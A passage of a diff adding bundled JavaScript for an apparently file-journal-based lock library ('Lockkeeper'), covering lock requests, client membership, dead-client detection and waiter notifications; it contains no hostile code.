+    operation.client = client;
+    operation.number = ++last;
+    outstanding.set(last, operation);
+    return last;
+  };
+  const ask = (request) => {
+    request.number = add(Object.assign({ type: "request" }, request.description));
+    open3.set(request.number, request);
+  };
+  const tell2 = (request, news, stolenByOwn = false) => {
+    request.entersFirst = stolenByOwn && request.news === "granted";
+    request.news = news;
+    changed.add(request);
+    if (news !== "granted") open3.delete(request.number);
+  };
+  const send = (operation, released2) => {
+    add(operation);
+    operationAdded(released2);
+  };
+  const letGo = ({ number }, released2) => send({ type: "drop", request: number }, released2);
+  const own = {
+    /**
+     * Becomes [id], a client that has done nothing yet: its first operation is its join, and requests that still wait ask again.
+     * @param {string} id
+     */
+    begin(id) {
+      const waiting = open3;
+      const marks = own.outstanding().filter(isAwaited);
+      client = id;
+      outstanding.clear();
+      released = /** @type {any} */
+      {};
+      last = 0;
+      open3 = /* @__PURE__ */ new Map();
+      add({ type: "join" });
+      waiting.forEach(ask);
+      marks.forEach(add);
+    },
+    /** Which client this context is. */
+    id: () => client,
+    /** Whether this context holds or waits for anything besides so many requests. @param {number} count */
+    busyBesides: (count) => open3.size > count || own.outstanding().some(isAwaited),
+    outstanding: () => [...outstanding.values()],
+    /** The number of the last operation that was delivered. */
+    lastDelivered: () => last - outstanding.size,
+    /** Whether a request of this context was delivered and waits for its lock. */
+    waits() {
+      for (const { status, number } of open3.values()) if (status === "open" && !outstanding.has(number)) return true;
+      return false;
+    },
+    /** Whether there is something to tell a listener. */
+    hasNews: () => changed.size > 0,
+    /** Whether this context holds a lock, as its listener knows it. */
+    holds() {
+      for (const { status } of open3.values()) if (status === "held") return true;
+      return false;
+    },
+    /** Whether a request that was delivered has neither ended nor been dropped. @param {number} number */
+    isOpen: (number) => open3.has(number) && !outstanding.has(number),
+    /** Whether this context holds or waits for anything. */
+    busy: () => open3.size > 0 || own.outstanding().some(isAwaited),
+    /** @param {import('./types.js').RequestDescription} description @param {import('./types.js').RequestListener} listener */
+    request(description, listener) {
+      const request = { number: 0, description, listener, status: "open", news: "", entersFirst: false, fence: 0, askedAgain: false };
+      const drop = (
+        /** @type {any} */
+        outstanding.get(last)
+      );
+      const { number, fence } = released;
+      if (drop && outstanding.size < 2 && drop.request === number && description.steal === false && JSON.stringify(description) === JSON.stringify(released.description) && mayKeep(description.names[0])) {
+        outstanding.clear();
+        last--;
+        open3.set(request.number = number, request);
+        request.fence = fence;
+        tell2(request, "granted");
+      } else ask(request);
+      operationAdded();
+      return request;
+    },
+    /** @param {LogRequest} request */
+    drop(request) {
+      changed.delete(request);
+      request.status = "ended";
+      if (open3.get(request.number) !== request) return;
+      open3.delete(request.number);
+      released = request;
+      letGo(request, outstanding.size < MANY ? request.description.names[0] : void 0);
+    },
+    /**
+     * Resolves when everything asked for before has been delivered. Its operation drops a request that never was, so it changes nothing.
+     * @param {{type: 'force-release', names: string[]} | {type: 'drop', request: number}} [operation]
+     * @returns {Promise<void>}
+     */
+    mark: (operation = { type: "drop", request: 0 }) => new Promise((resolve3) => send(Object.assign({ resolve: resolve3 }, operation))),
+    /** This client's operations up to [number] have been delivered. @param {number} number */
+    operationDelivered(number) {
+      for (const [each, { resolve: resolve3 }] of outstanding) {
+        if (each > number) break;
+        outstanding.delete(each);
+        if (resolve3) resolve3();
+      }
+    },
+    /**
+     * Asks again, once, for what was not available. A context that releases a lock and tells another one so posts the release first; but
+     * what that one posts then may still come before it in the order.
+     * @param {import('../core/types.js').LockEvent} event of any client
+     * @returns {boolean} whether it does
+     */
+    asksAgain({ type, client: whose, number }) {
+      const request = type === "unavailable" && whose === client && open3.get(number);
+      if (!request || request.askedAgain) return false;
+      request.askedAgain = true;
+      open3.delete(number);
+      ask(request);
+      operationAdded();
+      return true;
+    },
+    /** @param {import('../core/types.js').LockEvent} event of any client @param {import('./types.js').Operation} operation its cause */
+    eventHappened(event, operation) {
+      const { type, number, fence } = event;
+      const isRequest = operation.type === "request";
+      if (type === "granted" && isRequest && operation.steal) {
+        open3.forEach((each) => {
+          if (!isEntered(each) || each.fence || !operation.names.includes(each.description.names[0])) return;
+          tell2(each, "broken");
+          letGo(each);
+        });
+      }
+      const request = event.client === client && open3.get(number);
+      if (!request) return;
+      request.fence = fence || request.fence;
+      if (type !== "granted" || request.status === "open") tell2(request, type, isRequest && operation.client === client);
+    },
+    /**
+     * R21: enters what the outstanding operations will grant to a request that was delivered. Not where it is a draft's, which shows its
+     * fence, and may have to end.
+     * @param {import('../core/types.js').LockEvent[]} foreseen what they will do, to anybody
+     */
+    enterEarly(foreseen) {
+      for (const { client: whose, number } of foreseen) {
+        const request = open3.get(number);
+        const isNext = whose === client && !outstanding.has(number) && request && request.status === "open" && request.description.steal === false;
+        if (isNext) tell2(request, "granted");
+      }
+    },
+    /**
+     * Rule R7: the state was replaced by a snapshot; compares the open requests with it. What has been delivered by then is known already.
+     * @param {import('./types.js').State} state
+     * @param {import('../core/types.js').LockEvent[]} foreseen what the outstanding operations will do (rule R21)
+     */
+    compare({ held, pending }, foreseen) {
+      open3.forEach((request) => {
+        const { number, status, description } = request;
+        const isThis = (each) => each.number === number && each.client === client;
+        const now3 = held.find(isThis);
+        if (now3) {
+          request.fence = now3.fence;
+          if (status === "open") tell2(request, "granted");
+        } else if (isEntered(request) && !foreseen.some(isThis)) {
+          tell2(request, "broken");
+          letGo(request);
+        } else if (!outstanding.has(number) && !pending.some(isThis)) tell2(request, description.ifAvailable ? "unavailable" : "broken");
+      });
+    },
+    /** Ends what is held, and with [all] what is asked for too: this context was declared dead, or leaves. @param {boolean} all */
+    lose(all) {
+      changed.forEach((request) => {
+        request.entersFirst = false;
+      });
+      open3.forEach((request) => {
+        if (all || request.status === "held") tell2(request, "lost");
+        else if (request.news === "granted") {
+          request.news = "";
+          changed.delete(request);
+        }
+      });
+    },
+    /**
+     * Tells the listeners what is true now; what happened in between is nobody's business. Whoever has lost a lock learns of it before
+     * whoever has it now: then grants wait for another turn.
+     * @param {() => void} again asks for that turn
+     * @param {boolean} [mayEnter] where it is false, grants wait until this is called again
+     */
+    tellListeners(again, mayEnter = true) {
+      const isTold = ({ news, entersFirst }) => mayEnter || !(news === "granted" || entersFirst);
+      const list = [...changed].filter(isTold);
+      const ended = list.some((request) => request.news !== "granted");
+      for (const request of list) {
+        if (ended && request.news === "granted" || !changed.delete(request)) continue;
+        const { news, listener } = request;
+        request.news = "";
+        request.status = news === "granted" || request.entersFirst ? "held" : "ended";
+        if (request.status === "held") listener("granted", request.fence);
+        if (news === "granted" || request.entersFirst && /** @type {string} */
+        request.status === "ended") continue;
+        request.status = "ended";
+        listener(
+          /** @type {import('./types.js').Outcome} */
+          news === "removed" ? "broken" : news,
+          0
+        );
+      }
+      if ([...changed].some(isTold)) again();
+    }
+  };
+  return own;
+};
+
+// glue/log/second-look.js
+var withSecondLook = (log, buryDead) => {
+  const current = /* @__PURE__ */ new WeakMap();
+  let departures = 0;
+  const requestIfAvailable = (description, listener) => {
+    const ask = () => log.request(description, (outcome, fence, reason) => {
+      if (outcome === "granted") request.fence = fence;
+      if (outcome === "unavailable") void lookAgain();
+      else listener(outcome, fence, reason);
+    });
+    const lookAgain = async () => {
+      const before = departures;
+      const looking = buryDead(description.names);
+      const again = looking && await looking;
+      if (!current.delete(request)) return;
+      if (before !== departures) listener("lost", 0);
+      else if (!again) listener("unavailable", 0);
+      else {
+        const next = ask();
+        current.set(request, next);
+        request.number = next.number;
+      }
+    };
+    const request = ask();
+    current.set(request, request);
+    return request;
+  };
+  return {
+    ...log,
+    request: (description, listener) => (description.ifAvailable ? requestIfAvailable : log.request)(description, listener),
+    drop(request) {
+      const asked = current.get(request);
+      if (asked) current.delete(request);
+      log.drop(asked || request);
+    },
+    detach: (request) => log.detach && log.detach(current.get(request) || request),
+    leave() {
+      departures++;
+      log.leave();
+    }
+  };
+};
+
+// glue/log/telling.js
+var createTelling = (own, defer) => {
+  let news = false;
+  let scheduled = false;
+  const telling = {
+    /** There may be something to tell. */
+    add() {
+      news = true;
+    },
+    hasNews: () => news,
+    /** There is something to tell, by somebody who is called back from here. */
+    addSoon() {
+      news = true;
+      telling.soon();
+    },
+    /** Tells it, where the caller is not one of those who are told. */
+    now() {
+      if (!news) return;
+      news = false;
+      own.tellListeners(() => {
+        news = true;
+        telling.soon();
+      });
+    },
+    soon() {
+      if (!news || scheduled) return;
+      scheduled = true;
+      defer(() => {
+        scheduled = false;
+        telling.now();
+      });
+    }
+  };
+  return telling;
+};
+
+// glue/platform/node/burials.js
+var VISITS = 3;
+var createBurials = ({ life, copy, membership, ringing, attempt, read, write: write2, tell: tell2 }) => {
+  const { core, members } = copy;
+  const burials = {
+    /** @param {string[]} dead */
+    bury(dead) {
+      attempt(() => {
+        read();
+        const gone = membership.isMember() ? dead.filter((each) => members().has(each)) : [];
+        if (!gone.length) return;
+        write2(gone.map((each) => ({ type: "gone", client: each })));
+        ringing.queueChanged();
+        gone.forEach(life.bury);
+      });
+      tell2();
+    },
+    /**
+     * Checks whether [clients] live, and buries the dead.
+     * @param {Iterable<string>} clients
+     * @returns {Promise<boolean>} whether one was dead
+     */
+    async visit(clients) {
+      const others = [...clients].filter((each) => each !== membership.client());
+      const alive = await Promise.all(others.map(life.isAlive));
+      const dead = others.filter((_, index) => !alive[index]);
+      if (dead.length) burials.bury(dead);
+      return dead.length > 0;
+    },
+    /** Checks some members, so that the dead do not accumulate. @param {number} from any number: it picks the first of them */
+    visitSome(from) {
+      const all = [...members()];
+      const first = from % (all.length || 1);
+      void burials.visit([...all, ...all].slice(first, first + Math.min(VISITS, all.length)));
+    },
+    /** Buries the dead among those with requests under these names. @param {string[]} names @returns {false | Promise<boolean>} */
+    buryBefore(names) {
+      const others = burials.withRequests(names);
+      return others.size > 0 && burials.visit(others);
+    },
+    /** The other clients that hold or wait. @param {string[]} [names] under these names alone @returns {Set<string>} */
+    withRequests(names) {
+      if (members().size < 2) return /* @__PURE__ */ new Set();
+      const { held, pending } = core.state();
+      const requests = [...held, ...pending].filter((request) => !names || request.names.some((name) => names.includes(name)));
+      const clients = new Set(requests.map((request) => request.client));
+      clients.delete(membership.client());
+      return clients;
+    }
+  };
+  return burials;
+};
+
+// glue/log/apply.js
+var applyOperation = (core, operation) => {
+  try {
+    return core.apply(operation);
+  } catch (error) {
+    const { status = OUT_OF_MEMORY } = (
+      /** @type {{status?: number}} */
+      error
+    );
+    if (status === OUT_OF_MEMORY) throw error;
+    if (status < REFUSED || operation.type !== "request") return [];
+    return [{ type: "broken", client: operation.client, number: operation.number, fence: 0 }];
+  }
+};
+
+// glue/platform/node/copy.js
+var createCopy = (createCore2, hooks) => {
+  const core = createCore2({ fence: 0 });
+  let members = /* @__PURE__ */ new Set();
+  return {
+    core,
+    members: () => members,
+    /** @param {number} fence fences start above it @returns {Uint8Array} an empty state */
+    begin(fence) {
+      core.reset(fence);
+      return core.snapshot();
+    },
+    /** @param {Uint8Array} bytes the state at the beginning of a file */
+    restore(bytes) {
+      core.restore(bytes);
+      members = new Set(core.state().members.map((member) => member.client));
+      hooks.replaced();
+    },
+    /** One record, in its turn. @param {Record} record */
+    take({ by, operations }) {
+      for (const operation of operations) {
+        const events = applyOperation(core, operation);
+        if (operation.type === "join") members.add(operation.client);
+        else if (operation.type === "gone") members.delete(operation.client);
+        hooks.applied(operation, events, by);
+      }
+    }
+  };
+};
+
+// glue/platform/node/flushing.js
+var LOOK3 = 1e3;
+var createFlushing = ({ surroundings: { now: now3, defer }, own, membership, isBusy, attempt, write: write2, tell: tell2 }) => {
+  let scheduled = false;
+  let lookedAt = 0;
+  const writeAll = () => {
+    scheduled = false;
+    if (now3() - lookedAt >= LOOK3) {
+      lookedAt = now3();
+      membership.look();
+    }
+    while (membership.isMember()) {
+      const operations = own.outstanding();
+      if (!operations.length) return;
+      write2(operations);
+    }
+  };
+  const flush = () => {
+    const wanted = scheduled;
+    scheduled = false;
+    if (wanted) attempt(writeAll);
+    tell2();
+  };
+  return {
+    /** This context has just opened the journal. */
+    begin() {
+      lookedAt = now3();
+    },
+    /** Writes now, before other code runs. */
+    now: () => attempt(writeAll),
+    /**
+     * Writes in a promise job. If this context is busy, it waits some more jobs for a release to write along with it: a callback that
+     * requests its next turn and then ends causes one.
+     */
+    soon() {
+      if (scheduled) return;
+      scheduled = true;
+      if (isBusy()) defer(() => defer(() => defer(() => defer(flush))));
+      else defer(flush);
+    }
+  };
+};
+
+// glue/platform/node/keeping.js
+var SETTLE = 10;
+var exclude = (one, other) => one.mode === "exclusive" || other.mode === "exclusive" || one.limit !== other.limit;
+var stuckRequests = (requests, client) => {
+  const before = /* @__PURE__ */ new Map();
+  const stuck = /* @__PURE__ */ new Set();
+  for (const request of requests) {
+    if (request.client !== client || !request.fence && request.deadline < Infinity) continue;
+    let blocked = !!request.fence;
+    for (const name of request.fence ? [] : request.names) {
+      const all = before.get(name) || [];
+      const excluded = all.filter((each) => exclude(each, request));
+      const blocking = excluded.length ? excluded : request.limit && all.length >= request.limit ? all : [];
+      if (!blocking.length) continue;
+      blocked = true;
+      [...blocking, request].forEach(({ number }) => stuck.add(number));
+    }
+    if (blocked) request.names.forEach((name) => before.set(name, [...before.get(name) || [], request]));
+  }
+  return stuck;
+};
+var createKeeping = ({ own, core, journal, membership, setTimer }) => {
+  const detached = /* @__PURE__ */ new Set();
+  let stuck = /* @__PURE__ */ new Set();
+  let scheduled = false;
+  const mayBeStuck = () => own.waits() && own.holds();
+  const place = () => `${journal.path()} ${journal.position()}`;
+  const keep = () => {
+    const handles = [...detached].filter(({ number }) => !stuck.has(number));
+    membership.keep(own.busyBesides(handles.length + stuck.size));
+  };
+  const lookLater = () => {
+    if (scheduled) return;
+    scheduled = true;
+    const at2 = place();
+    setTimer(() => {
+      scheduled = false;
+      if (!membership.isMember() || !mayBeStuck()) return;
+      if (at2 === place()) {
+        stuck = stuckRequests(core.requests(), membership.client());
+        if (stuck.size) keep();
+      } else lookLater();
+    }, SETTLE);
+  };
+  return {
+    /** The lock of [request] no longer keeps the thread alive. @param {LogRequest} request */
+    detach(request) {
+      detached.add(request);
+    },
+    /** Something may have changed. */
+    update() {
+      if (detached.size || stuck.size) {
+        detached.forEach((request) => request.status === "ended" && detached.delete(request));
+        stuck = /* @__PURE__ */ new Set();
+        keep();
+      }
+      if (mayBeStuck()) lookLater();
+    },
+    /** This context is no longer a member. */
+    stop() {
+      stuck = /* @__PURE__ */ new Set();
+    }
+  };
+};
+
+// glue/log/blockers.js
+var blockersOf = ({ held, pending }, client) => {
+  const nearest = /* @__PURE__ */ new Map();
+  const blockers = /* @__PURE__ */ new Set();
+  for (const request of [...held, ...pending]) {
+    for (const name of request.names) {
+      const ahead = nearest.get(name) || { exclusive: "", shared: /* @__PURE__ */ new Set(), seen: false };
+      nearest.set(name, ahead);
+      if (request.client === client && !request.fence && !ahead.seen) {
+        ahead.seen = true;
+        if (request.mode === "exclusive" && ahead.shared.size) ahead.shared.forEach((each) => blockers.add(each));
+        else if (ahead.exclusive) blockers.add(ahead.exclusive);
+      }
+      if (request.mode === "shared") ahead.shared.add(request.client);
+      else {
+        ahead.exclusive = request.client;
+        ahead.shared = /* @__PURE__ */ new Set();
+      }
+    }
+  }
+  blockers.delete(client);
+  return blockers;
+};
+var holdersBefore = ({ held, pending }, client) => {
+  const all = /* @__PURE__ */ new Set();
+  const exclusive = /* @__PURE__ */ new Set();
+  for (const request of pending) {
+    if (request.client !== client) continue;
+    for (const name of request.names) (request.mode === "exclusive" ? all : exclusive).add(name);
+  }
+  const blocking = held.filter(({ mode, names }) => names.some((name) => all.has(name) || mode === "exclusive" && exclusive.has(name)));
+  const holders = new Set(blocking.map((request) => request.client));
+  holders.delete(client);
+  return holders;
+};
+
+// glue/platform/node/guard.js
+var createGuard = (watch3, died) => {
+  const KEEP2 = 8;
+  const watches2 = /* @__PURE__ */ new Map();
+  const announced = /* @__PURE__ */ new Map();
+  const add = (client) => {
+    if (watches2.has(client)) return;
+    watches2.set(client, watch3(client, () => {
+      watches2.delete(client);
+      announced.delete(client);
+      died(client);
+    }));
+  };
+  const remove = (client) => {
+    watches2.get(client)?.();
+    watches2.delete(client);
+  };
+  return {
+    /**
+     * Watches [blockers], and stops most other watches.
+     * @param {Set<string>} blockers who blocks this context's requests now: see ./blockers.js
+     * @param {(client: string) => number} last the number of a client's last operation in the state
+     */
+    turnTo(blockers, last) {
+      for (const [client, number] of announced) if (last(client) >= number) announced.delete(client);
+      for (const client of watches2.keys()) {
+        if (watches2.size > KEEP2 && !blockers.has(client) && !announced.has(client)) remove(client);
+      }
+      blockers.forEach(add);
+    },
+    /**
+     * Watches [client] until the state has its operation [number]: it has said that it is about to write it.
+     * @param {string} client
+     * @param {number} number
+     */
+    expect(client, number) {
+      announced.set(client, number);
+      add(client);
+    },
+    /** Stops watching [client]: it has gone. @param {string} client */
+    remove,
+    /** Stops watching everybody. */
+    stop() {
+      [...watches2.keys()].forEach(remove);
+      announced.clear();
+    }
+  };
+};
+
+// glue/platform/node/lookout.js
+var SETTLE2 = 1;
+var SETTLE_PER_REQUEST = 0.01;
+var LOOK_AGAIN = 8;
+var createLookout = ({ surroundings, journal, core, members, client, isNeeded, died, failed }) => {
+  const { bell, life, now: now3, setTimer } = surroundings;
+  const guard = createGuard((each, onDeath) => life.watch(each, onDeath, failed), died);
+  let scheduled = false;
+  let lookedAt = "";
+  let lookedWhen = -Infinity;
+  const lookAfter = (milliseconds) => {
+    if (scheduled) return;
+    scheduled = true;
+    setTimer(look2, milliseconds);
+  };
+  const look2 = () => {
+    scheduled = false;
+    if (!isNeeded()) return;
+    const at2 = `${journal.path()} ${journal.position()}`;
+    if (at2 === lookedAt) return;
+    const time = now3();
+    if (time < lookedWhen + LOOK_AGAIN) {
+      lookAfter(lookedWhen + LOOK_AGAIN - time);
+      return;
+    }
+    lookedAt = at2;
+    lookedWhen = time;
+    if (members().size < 2) return;
+    const state = core.state();
+    lookout.lookAt(state);
+    holdersBefore(state, client()).forEach((holder) => bell.ring(holder));
+  };
+  const lookout = {
+    /** Watches those who block this context. @param {import('../../core/types.js').State} state */
+    lookAt: (state) => guard.turnTo(blockersOf(state, client()), core.last),
+    /** This context holds or waits, and has just acted. For processes ./notices.js decides when to look. */
+    settle: () => lookAfter(SETTLE2 + core.requestCount() * SETTLE_PER_REQUEST),
+    /** Burying a dead client may have failed. So it looks again, even if nothing was written since. */
+    doubt() {
+      lookedAt = "";
+    },
+    /** Another context is about to write something that may concern this one, and might end before it does. */
+    expect: guard.expect,
+    /** @param {string} gone */
+    forget(gone) {
+      bell.forget(gone);
+      guard.remove(gone);
+    },
+    stop() {
+      guard.stop();
+      lookedAt = "";
+    }
+  };
+  return lookout;
+};
+
+// glue/platform/node/trouble.js
+var PASSING = [
+  "EAGAIN",
+  "EBUSY",
+  "EDQUOT",
+  "EINTR",
+  "EIO",
+  "EMFILE",
+  "ENFILE",
+  "ENOBUFS",
+  "ENOMEM",
+  "ENOSPC",
+  "ETXTBSY",
+  "out-of-memory"
+];
+var FIRST_PAUSE = 100;
+var LONGEST_PAUSE = 1e4;
+var mayPass = (error) => PASSING.includes(codeOf(error));
+var createTrouble = (warn, setTimer) => {
+  let pause = 0;
+  let cancel;
+  return {
+    /** @param {unknown} error @param {() => void} again */
+    retry(error, again) {
+      if (!pause) warn(`Lockkeeper: ${/** @type {Error} */
+      error.message}; trying again until it works`);
+      pause = Math.min(Math.max(FIRST_PAUSE, 2 * pause), LONGEST_PAUSE);
+      if (cancel) cancel();
+      cancel = setTimer(again, pause);
+    },
+    /** Milliseconds from the last failure to the next attempt; 0 where nothing has failed. */
+    pause: () => pause,
+    /** Something has worked. */
+    over() {
+      if (!pause) return;
+      pause = 0;
+      if (cancel) cancel();
+      cancel = void 0;
+    }
+  };
+};
+
+// glue/platform/node/membership.js
+var TOUCH = 12 * 3600 * 1e3;
+var none = () => {
+};
+var createMembership = ({ surroundings, own, journal, joined, left, again, tell: tell2 }) => {
+  const { life, setTimer, warn, randomId: randomId3, keepAlive } = surroundings;
+  let phase = "idle";
+  let client = "";
+  let hold2;
+  let reason;
+  let cancelTouch = none;
+  const trouble = createTrouble(warn, (callback, milliseconds) => setTimer(callback, milliseconds, keepAlive));
+  const start = async () => {
+    phase = "joining";
+    const mine = client = randomId3();
+    own.begin(mine);
+    const isWanted = () => client === mine && phase === "joining";
+    let prepared = false;
+    let held;
+    try {
+      surroundings.prepare();
+      prepared = true;
+      held = await life.hold(mine);
+      await openJournal(isWanted);
+    } catch (error) {
+      held?.close();
+      if (!isWanted()) return;
+      journal.close();
+      const mayHelp = mayPass(error) || prepared && codeOf(error) === "ENOENT";
+      if (mayHelp) trouble.retry(error, () => isWanted() && start());
+      else membership.fail(error);
+      return;
+    }
+    if (!isWanted()) {
+      held.close();
+      return;
+    }
+    hold2 = held;
+    reason = void 0;
+    phase = "member";
+    trouble.over();
+    cancelTouch = setTimer(touch, TOUCH);
+    joined();
+  };
+  const openJournal = async (isWanted) => {
+    while (isWanted()) {
+      try {
+        journal.open();
+        return;
+      } catch (error) {
+        if (!/** @type {any} */
+        error.isFormer || await life.hasStrangers()) throw error;
+        if (isWanted()) journal.succeed();
+      }
+    }
+  };
+  const touch = () => {
+    cancelTouch = setTimer(touch, TOUCH);
+    try {
+      membership.look();
+      if (phase !== "member") return;
+      journal.touch();
+      life.touch(client);
+    } catch (error) {
+      membership.failed(error);
+    }
+  };
+  const stop = () => {
+    phase = "idle";
+    cancelTouch();
+    trouble.over();
+    left();
+    journal.close();
+    hold2?.close();
+    hold2 = void 0;
+  };
+  const membership = {
+    client: () => client,
+    isMember: () => phase === "member",
+    isIdle: () => phase === "idle",
+    /** Why all requests are lost, after fail(). */
+    reason: () => reason,
+    start: () => void start(),
+    /** Whether this thread is to stay alive. @param {boolean} wanted */
+    keep(wanted) {
+      if (wanted && keepAlive) hold2?.ref();
+      else hold2?.unref();
+    },
+    /** The others count this client as gone: what it held is lost, and it joins again as another client. */
+    lost() {
+      own.lose(false);
+      stop();
+      void start();
+      tell2();
+    },
+    /** Joins anew if the journal was removed. */
+    look() {
+      if (!journal.isRemoved()) return;
+      warn("Lockkeeper: the journal was removed; this context starts anew");
+      membership.lost();
+    },
+    /** @param {unknown} error of something that this context did as a member */
+    failed(error) {
+      const { syscall, message } = (
+        /** @type {any} */
+        error
+      );
+      if (mayPass(error) && syscall) trouble.retry(error, again);
+      else if (mayPass(error) || codeOf(error) === "ENOENT") {
+        warn(`Lockkeeper: ${message}; this context starts anew`);
+        membership.lost();
+      } else membership.fail(error);
+    },
+    /** What had failed works again. */
+    works: trouble.over,
+    /** Milliseconds until what has failed is tried again; 0 where nothing has. */
+    pause: trouble.pause,
+    /** Waiting does not help: rejects all requests with [error]. The next request tries again. @param {any} error */
+    fail(error) {
+      reason = error;
+      own.lose(true);
+      stop();
+      own.operationDelivered(Infinity);
+      tell2();
+    },
+    /** Hands everything back. */
+    leave() {
+      own.lose(true);
+      stop();
+      tell2();
+      if (own.busy()) void start();
+    }
+  };
+  return membership;
+};
+
+// glue/platform/node/notices.js
+var SETTLE3 = 20;
+var SETTLE_PER_REQUEST2 = 4;
+var SETTLE_LONGEST = 200;
+var PATIENCE = 50;
+var LOOK_AGAIN2 = 200;
+var ALARM = 1e3;
+var RESPITE = 5;
+var RESPITE_LONGEST = 80;
+var SELDOM2 = 5e3;
+var requestsBefore = ({ held, pending }, client, blockers) => {
+  const all = [...held, ...pending];
+  const names = new Set(pending.flatMap((request) => request.client === client ? request.names : []));
+  const last = all.length - 1 - [...all].reverse().findIndex((request) => request.client === client && !request.fence);
+  const before = /* @__PURE__ */ new Map();
+  for (const request of all.slice(0, last)) {
+    if (!blockers.has(request.client) || !request.names.some((name) => names.has(name))) continue;
+    const numbers = before.get(request.client);
+    if (numbers) numbers.push(request.number);
+    else before.set(request.client, [request.number]);
+  }
+  return before;
+};
+var createNotices = ({ surroundings, kernel, journal, core, members, client, isNeeded, isOpen, read, lookout }) => {
+  const { bell, now: now3, setTimer } = surroundings;
+  const registered = /* @__PURE__ */ new Map();
+  const told = /* @__PURE__ */ new Set();
+  let asked = /* @__PURE__ */ new Map();
+  const expected = /* @__PURE__ */ new Map();
+  let attending = false;
+  let endRespite;
+  let respite = 0;
+  let stirredAt = -Infinity;
+  let bereaved = false;
+  let alarmedUntil = -Infinity;
+  let readAt = 0;
+  let checkedAt = "";
+  let due = Infinity;
+  let cancel = () => {
+  };
+  const settling = () => Math.min(SETTLE3 + core.requestCount() * SETTLE_PER_REQUEST2, SETTLE_LONGEST);
+  const place = () => `${journal.path()} ${journal.position()}`;
+  const checkAfter = (milliseconds) => {
+    const time = now3() + milliseconds;
+    if (time >= due) return;
+    cancel();
+    due = time;
+    cancel = setTimer(check4, milliseconds);
+  };
+  const attend = () => {
+    attending = true;
+    if (!endRespite) kernel.attend(journal.path());
+  };
+  const stopAttending = () => {
+    attending = false;
+    endRespite?.();
+    endRespite = void 0;
+    kernel.unattend();
+  };
+  const register = (state) => {
+    const before = requestsBefore(state, client(), blockersOf(state, client()));
+    const known = asked;
+    asked = /* @__PURE__ */ new Map();
+    let result = "promised";
+    for (const [blocker, numbers] of before) {
+      const answers = known.get(blocker) || /* @__PURE__ */ new Map();
+      const missing = numbers.filter((number) => !answers.get(number));
+      const fresh = missing.filter((number) => !answers.has(number));
+      asked.set(blocker, new Map(numbers.map((number) => [number, !!answers.get(number)])));
+      if (fresh.length) bell.ring(blocker, { from: client(), last: core.last(client()), behind: fresh });
+      if (fresh.length && result === "promised") result = "asked";
+      if (missing.length > fresh.length) result = "late";
+    }
+    const isLimited = [...state.held, ...state.pending].some((request) => request.client !== client() && (request.deadline < Infinity || request.hold < Infinity || request.limit > 0));
+    return isLimited ? "late" : result;
+  };
+  const check4 = () => {
+    due = Infinity;
+    if (!isNeeded()) return;
+    const quiet = now3() - readAt;
+    if (!attending && !bereaved && quiet < settling()) {
+      checkAfter(settling() - quiet);
+      return;
+    }
+    bereaved = false;
+    kernel.heed(journal.firstPath());
+    read();
+    if (!isNeeded()) return;
+    checkedAt = place();
+    for (const [each, number] of expected) if (core.last(each) >= number || !members().has(each)) expected.delete(each);
+    const state = core.state();
+    lookout.lookAt(state);
+    const result = register(state);
+    if (result === "late" || expected.size || now3() < alarmedUntil) {
+      attend();
+      checkAfter(LOOK_AGAIN2);
+    } else {
+      stopAttending();
+      checkAfter(result === "promised" ? SELDOM2 : PATIENCE);
+    }
+  };
+  const notices = {
+    /** This context has read the journal. */
+    hasRead() {
+      readAt = now3();
+    },
+    /** This context holds or waits, and has read or written. */
+    settle() {
+      if (attending) attend();
+      if (place() !== checkedAt) checkAfter(attending ? LOOK_AGAIN2 : settling());
+    },
+    /** Burying a dead client may have failed. So it checks again, even if nothing was written since. */
+    doubt() {
+      checkedAt = "";
+    },
+    /** A message of another context. What that context had written before has been read. @param {any} message @param {Answer} answer */
+    hear({ from, last, behind, promises, number }, answer3) {
+      if (behind) {
+        const kept = behind.filter(isOpen);
+        for (const each of kept) registered.set(each, (registered.get(each) || /* @__PURE__ */ new Map()).set(from, answer3));
+        if (core.last(from) >= last && kept.length) answer3({ from: client(), promises: kept });
+        if (kept.length < behind.length) answer3();
+      } else if (promises) {
+        const answers = asked.get(from);
+        for (const each of promises) if (answers?.has(each)) answers.set(each, true);
+      } else if (core.last(from) < number && isNeeded()) {
+        expected.set(from, number);
+        lookout.expect(from, number);
+        attend();
+      }
+    },
+    /**
+     * Call it before [operations] are written: tells those who wait behind the requests that they end.
+     * @param {import('../../core/types.js').Operation[]} operations
+     */
+    announce(operations) {
+      for (const operation of operations) {
+        if (operation.type !== "drop") continue;
+        registered.get(operation.request)?.forEach((answer3, each) => {
+          answer3({ from: client(), number: operation.number });
+          told.add(each);
+        });
+        registered.delete(operation.request);
+      }
+    },
+    /** Tells everybody, since all requests of this context are about to end. */
+    leave() {
+      const everybody = new Map([...registered.values()].flatMap((waiters) => [...waiters]));
+      everybody.forEach((answer3) => answer3({ from: client(), number: Number.MAX_SAFE_INTEGER }));
+    },
+    /** @param {string} each @returns {boolean} whether that client was told of the entry that was just written */
+    wasTold: (each) => told.has(each),
+    /** The entry is written, and everybody concerned has been told. */
+    written: () => told.clear(),
+    /** A steal or a forced release is about to be written, or was. */
+    alarmed() {
+      alarmedUntil = now3() + ALARM;
+      if (isNeeded()) attend();
+      read();
+    },
+    /** An entry was written, while the kernel rings for every entry. */
+    stirred() {
+      const time = now3();
+      respite = time - stirredAt > 2 * RESPITE_LONGEST ? 0 : Math.min(Math.max(2 * respite, RESPITE), RESPITE_LONGEST);
+      stirredAt = time;
+      read();
+      if (!attending || !respite || endRespite) return;
+      kernel.unattend();
+      endRespite = setTimer(() => {
+        endRespite = void 0;
+        if (attending && isNeeded()) attend();
+      }, respite);
+    },
+    /** @param {string} each its connection has ended: it may have forgotten its promises, and its last message may be lost */
+    cut(each) {
+      if (!asked.delete(each) || !isNeeded()) return;
+      attend();
+      checkAfter(PATIENCE);
+    },
+    /** @param {string} gone */
+    forget(gone) {
+      if (asked.delete(gone) && isNeeded()) {
+        bereaved = true;
+        checkAfter(SETTLE3);
+      }
+      registered.forEach((waiters) => waiters.delete(gone));
+    },
+    /** This context no longer holds or waits. */
+    rest() {
+      cancel();
+      due = Infinity;
+      stopAttending();
+      checkedAt = "";
+      kernel.rest();
+    },
+    stop() {
+      notices.rest();
+      registered.clear();
+      expected.clear();
+      asked.clear();
+    }
+  };
+  return notices;
+};
+
+// glue/platform/node/ringing.js
+var takesAway = (operation) => operation.type === "force-release" || operation.type === "request" && !!operation.steal;
+var createRinging = ({ bell, members, client, firstPath, notices }) => {
+  const concerned = /* @__PURE__ */ new Set();
+  let concernsAll = false;
